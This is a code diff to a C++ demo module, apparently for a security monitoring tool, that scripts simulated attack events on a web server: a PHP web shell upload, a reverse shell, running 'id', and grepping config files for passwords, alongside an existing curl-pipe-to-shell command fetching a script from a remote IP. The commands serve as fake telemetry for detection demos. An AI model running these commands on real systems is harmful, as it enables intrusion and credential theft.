@@ -132,6 +132,19 @@ StoryEvent reverse_shell(Scene& scene) {
                        scene, "web-01");
 }
 
+StoryEvent script_uploaded(Scene& scene) {
+  return file_event({1, php, "/srv/www/app/uploads/{number}/avatar.php", "www-data"}, scene, "web-01");
+}
+
+StoryEvent who_am_i(Scene& scene) {
+  return process_event({1, "/usr/bin/id", "id", bash, "www-data"}, scene, "web-01");
+}
+
+StoryEvent search_for_secrets(Scene& scene) {
+  return process_event({1, "/usr/bin/grep", "grep -ri password /srv/www/app/config", bash, "www-data"}, scene,
+                       "web-01");
+}
+
 StoryEvent download_and_run(Scene& scene) {
   return process_event({1, dash, R"(sh -c "curl -fsSL http://203.0.113.7/x.sh | sh")", bash, "www-data"},
                        scene, "web-01");
@@ -164,8 +177,12 @@ constexpr std::array attack_steps = {
         cron_job},
 };
 
+constexpr std::array<EventMaker, 4> shell_steps = {script_uploaded, reverse_shell, who_am_i,
+                                                   search_for_secrets};
+constexpr std::array live_attack_scripts = {LiveAttackScript{shell_attack, shell_steps}};
+
 }  // namespace
 
-Script linux_script() { return {background, attack_steps}; }
+Script linux_script() { return {background, attack_steps, live_attack_scripts}; }
 
 }  // namespace alarum::demo
